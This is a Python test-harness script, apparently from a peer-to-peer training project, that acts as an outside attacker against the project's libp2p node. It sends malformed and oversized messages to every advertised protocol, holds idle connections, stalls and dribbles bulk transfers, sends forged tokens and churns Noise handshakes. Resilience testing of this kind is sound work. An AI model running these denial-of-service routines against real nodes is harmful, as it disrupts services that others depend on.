"""An outsider: a plain py-libp2p client and plain TCP sockets, nothing from this repository.

Why it must not import ``swarm_tune``: a hostile peer is whoever can reach the node, and it
uses whatever libp2p stack it likes. Attacking with the project's own node code would only
send what that code can produce; this client asks the node (identify) which protocol ids it
advertises and writes arbitrary bytes on each of them, with a fresh key per attack.

Usage: ``python outsider.py TARGET_MULTIADDR DATA_PORT ATTACK [--rounds N]`` (DATA_PORT 0:
learn it from a DIRECT offer's reply, as any peer can) where ATTACK is
one of ``meshsub`` (the two bytes ``01 ff`` on /meshsub/1.1.0, the issue's reproducer),
``streams`` (garbage / truncation / oversized length / slow input on every advertised id),
``idle`` (hold N plain TCP connections to the data port open, sending nothing), ``churn``
(N new connections to the libp2p port from ``--bind``, each starting a Noise handshake), ``offers``
(large bulk offers that never send a byte), ``dribble`` (accepted offers fed one byte at a
time) or ``badtoken`` (wrong 32-byte tokens on the data port). Prints one
``OUTSIDER {json}`` line with what it did and what the node answered, then exits 0. Every
step is bounded by a timeout and the random bytes are seeded. A ``OUTSIDER_START`` line marks
the moment set-up (imports, learning the data port or the protocol list) is over and the
attack begins, so that a measurement window can start there.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import random
import socket
import struct
import sys
from collections import Counter
from typing import Any

import multiaddr
import trio
from libp2p import new_host
from libp2p.abc import IHost
from libp2p.custom_types import TProtocol
from libp2p.identity.identify.identify import ID as IDENTIFY
from libp2p.identity.identify.pb.identify_pb2 import Identify
from libp2p.peer.peerinfo import info_from_p2p_addr
from libp2p.utils.varint import decode_uvarint_from_stream

PREFIX = "OUTSIDER"
# The bulk offer layout, written here from its spec (magic, mode, size), not imported.
BULK = "/swarm-tune/bulk/2.0.0"
OFFER = struct.Struct(">4sBQ")
REPLY_LEN = 67  # status, port, token, key


class Outsider:
    @staticmethod
    def started() -> None:
        print(f"{PREFIX}_START", flush=True)

    def __init__(self, target: str, data_port: int, seed: int) -> None:
        self.target = multiaddr.Multiaddr(target)
        self.info = info_from_p2p_addr(self.target)
        self.ip = str(self.target.value_for_protocol("ip4"))
        self.data_port = data_port
        self.rng = random.Random(seed)
        self.seen: Counter[str] = Counter()
        self.protocols: list[str] = []

    async def discover_data_port(self) -> None:
        """Learn the data port the way any peer does: a DIRECT offer's reply carries it."""
        if self.data_port:
            return
        host = await self.host()
        async with host.run([multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
            s = await self.stream(host, BULK)
            with trio.fail_after(10):
                await s.write(OFFER.pack(b"SWB2", 0, 1024))  # DIRECT mode
                reply = await s.read(REPLY_LEN)
            self.data_port = struct.unpack(">H", reply[1:3])[0]
            await s.reset()

    async def host(self) -> IHost:
        """A fresh identity per call: peer ids are free, as for any attacker."""
        return new_host()

    async def stream(self, host: IHost, proto: str) -> Any:
        with trio.fail_after(10):
            await host.connect(self.info)
            return await host.new_stream(self.info.peer_id, [TProtocol(proto)])

    async def write_then_read(
        self, host: IHost, proto: str, chunks: list[bytes], gap: float
    ) -> None:
        """Open ``proto``, write ``chunks`` (``gap`` s apart), read what comes back."""
        try:
            s = await self.stream(host, proto)
        except Exception as exc:
            self.seen[f"open_failed:{type(exc).__name__}"] += 1
            return
        try:
            with trio.move_on_after(3 + gap * len(chunks)):
                for c in chunks:
                    await s.write(c)
                    if gap:
                        await trio.sleep(gap)
                await s.close()  # half-close: a handler waiting for more sees EOF
                got = await s.read(4096)
                self.seen["answered" if got else "closed"] += 1
                return
            self.seen["no_answer"] += 1
        except Exception as exc:
            self.seen[f"stream:{type(exc).__name__}"] += 1
        finally:
            with contextlib.suppress(Exception):
                await s.reset()

    async def identify(self, host: IHost) -> list[str]:
        s = await self.stream(host, str(IDENTIFY))
        with trio.fail_after(10):
            size = await decode_uvarint_from_stream(s)
            body = b""
            while len(body) < size:
                chunk = await s.read(size - len(body))
                if not chunk:
                    break
                body += chunk
        msg = Identify()
        msg.ParseFromString(body)
        return sorted(msg.protocols)

    # ------------------------------------------------------------------ attacks

    async def meshsub(self, rounds: int) -> None:
        for _ in range(rounds):
            host = await self.host()
            async with host.run([multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
                await self.write_then_read(host, "/meshsub/1.1.0", [b"\x01\xff"], 0)

    async def streams(self, rounds: int) -> None:
        host = await self.host()
        async with host.run([multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
            self.protocols = await self.identify(host)
        self.started()
        r = self.rng
        shapes = {
            "garbage": lambda: [r.randbytes(r.randrange(1, 3000))],
            "truncated": lambda: [b"\x0a\xff\xff\x03" + r.randbytes(5)],
            "oversized": lambda: [b"\xff\xff\xff\xff\x0f" + r.randbytes(64), b"\xff" * 65536],
            "varint_bomb": lambda: [b"\xff" * 16],
            "slow": lambda: [bytes([b]) for b in r.randbytes(4)],
        }
        for _ in range(rounds):
            for proto in self.protocols:
                for name, make in shapes.items():
                    host = await self.host()
                    async with host.run([multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
                        gap = 0.4 if name == "slow" else 0.0
                        await self.write_then_read(host, proto, make(), gap)
                    self.seen[f"sent:{name}"] += 1

    async def idle(self, count: int, hold: float) -> None:
        socks = []
        for _ in range(count):
            s = socket.socket()
            s.setblocking(False)
            try:
                await trio.to_thread.run_sync(_connect, s, self.ip, self.data_port)
                socks.append(s)
            except OSError:
                self.seen["connect_refused"] += 1
                s.close()
        self.seen["idle_open"] = len(socks)
        await trio.sleep(hold)
        closed = sum(1 for s in socks if _is_closed(s))
        self.seen["closed_by_node"] = closed
        for s in socks:
            s.close()

    async def offers(self, count: int, size: int, hold: float) -> None:
        """Accepted offers that never send a payload byte (memory pinned on OFFER alone?),
        renewed with fresh keys until ``hold`` seconds have passed."""
        with trio.move_on_after(hold):
            while True:
                async with trio.open_nursery() as n:
                    for _ in range(count):
                        n.start_soon(self._offer, size, 0.0, hold)

    async def dribble(self, count: int, size: int, hold: float) -> None:
        """Accepted offers fed one byte a second (the issue's slowloris on the bulk plane)."""
        with trio.move_on_after(hold):
            while True:
                async with trio.open_nursery() as n:
                    for _ in range(count):
                        n.start_soon(self._offer, size, 1.0, hold)

    async def _offer(self, size: int, dribble: float, hold: float) -> None:
        host = await self.host()
        async with host.run([multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
            try:
                s = await self.stream(host, BULK)
                await s.write(OFFER.pack(b"SWB2", 1, size))  # STREAM mode
                reply = await s.read(REPLY_LEN)
                status = reply[0] if reply else -1
                self.seen[f"offer_status:{status}"] += 1
                with trio.move_on_after(hold):
                    while dribble and status == 0:
                        await s.write(b"x")
                        await trio.sleep(dribble)
                    if not dribble:
                        await s.read(1)  # wait for the node to give up on us
                self.seen["offer_held"] += 1
            except Exception as exc:
                self.seen[f"offer:{type(exc).__name__}"] += 1

    async def badtoken(self, count: int, hold: float = 0.0) -> None:
        """``count`` wrong tokens with payload per second until ``hold`` s passed (>= once)."""
        end = trio.current_time() + hold
        first = True
        while first or trio.current_time() < end:
            first = False
            await self._badtokens(count)
            await trio.sleep(1.0)  # paced: the attacker shares the test box's two cores

    async def _badtokens(self, count: int) -> None:
        for _ in range(count):
            try:
                with trio.fail_after(10):
                    conn = await trio.open_tcp_stream(self.ip, self.data_port)
                    async with conn:
                        await conn.send_all(self.rng.randbytes(32) + b"payload" * 100)
                        got = await conn.receive_some(10)
                        self.seen["closed" if not got else "answered"] += 1
            except (trio.BrokenResourceError, trio.ClosedResourceError):
                self.seen["closed"] += 1  # reset by the node while we were still writing
            except Exception as exc:
                self.seen[f"badtoken:{type(exc).__name__}"] += 1

    async def churn(self, count: int, port: int, bind: str, workers: int = 8) -> None:
        """``count`` new connections to the libp2p port from ``bind``, ``workers`` at a time:
        each offers Noise and sends a valid first handshake message (a random X25519 key),
        so a node that admits it pays its side of the handshake (answers with message 2),
        then hangs up. Counts ``handshake`` (the node answered) and ``refused`` (closed)."""
        left = [count]
        start = trio.current_time()

        async def worker() -> None:
            while left[0] > 0:
                left[0] -= 1
                await self._churn_one(port, bind)

        async with trio.open_nursery() as n:
            for _ in range(workers):
                n.start_soon(worker)
        self.seen["elapsed_ms"] = int(1000 * (trio.current_time() - start))

    async def _churn_one(self, port: int, bind: str) -> None:
        hello = _ms(b"/multistream/1.0.0") + _ms(b"/noise")
        try:
            with trio.fail_after(5):
                sock = trio.socket.socket()
                await sock.bind((bind, 0))
                await sock.connect((self.ip, port))
                async with trio.SocketStream(sock) as conn:
                    await conn.send_all(hello + b"\x00\x20" + self.rng.randbytes(32))
                    got = b""
                    while len(got) <= len(hello) + 2 + 32:
                        chunk = await conn.receive_some(4096)
                        if not chunk:
                            break
                        got += chunk
            self.seen["handshake" if len(got) > len(hello) + 2 + 32 else "refused"] += 1
        except (OSError, trio.BrokenResourceError, trio.ClosedResourceError):
            self.seen["refused"] += 1
        except trio.TooSlowError:
            self.seen["timeout"] += 1


def _ms(line: bytes) -> bytes:
    """One multistream-select message: uvarint length, the line, a newline."""
    body = line + b"\n"
    return bytes([len(body)]) + body  # every line here is shorter than 128 bytes


def _connect(s: socket.socket, ip: str, port: int) -> None:
    s.setblocking(True)
    s.settimeout(5)
    s.connect((ip, port))
    s.setblocking(False)


def _is_closed(s: socket.socket) -> bool:
    try:
        return s.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


async def main(argv: list[str]) -> None:
    p = argparse.ArgumentParser()
    p.add_argument("target")
    p.add_argument("data_port", type=int)
    p.add_argument("attack")
    p.add_argument("--rounds", type=int, default=1)
    p.add_argument("--count", type=int, default=200)
    p.add_argument("--size", type=int, default=512 << 20)
    p.add_argument("--hold", type=float, default=None, help="attack duration (s)")
    p.add_argument("--seed", type=int, default=14)
    p.add_argument("--bind", default="127.0.0.1", help="churn: the source address")
    a = p.parse_args(argv)
    o = Outsider(a.target, a.data_port, a.seed)
    if a.attack in ("idle", "badtoken"):
        await o.discover_data_port()
    if a.attack != "streams":  # it marks the start itself, once it knows the protocols
        o.started()
    if a.attack == "meshsub":
        await o.meshsub(a.rounds)
    elif a.attack == "streams":
        await o.streams(a.rounds)
    elif a.attack == "idle":
        await o.idle(a.count, a.hold or 20.0)
    elif a.attack == "offers":
        await o.offers(a.count, a.size, a.hold or 20.0)
    elif a.attack == "dribble":
        await o.dribble(a.count, a.size, a.hold or 20.0)
    elif a.attack == "badtoken":
        await o.badtoken(a.count, a.hold or 0.0)
    elif a.attack == "churn":
        await o.churn(a.count, int(o.target.value_for_protocol("tcp")), a.bind)
    else:
        raise SystemExit(f"unknown attack {a.attack}")
    report = {
        "attack": a.attack,
        "protocols": o.protocols,
        "data_port": o.data_port,
        "seen": dict(o.seen),
    }
    print(f"{PREFIX} {json.dumps(report, sort_keys=True)}", flush=True)


if __name__ == "__main__":
    trio.run(main, sys.argv[1:])
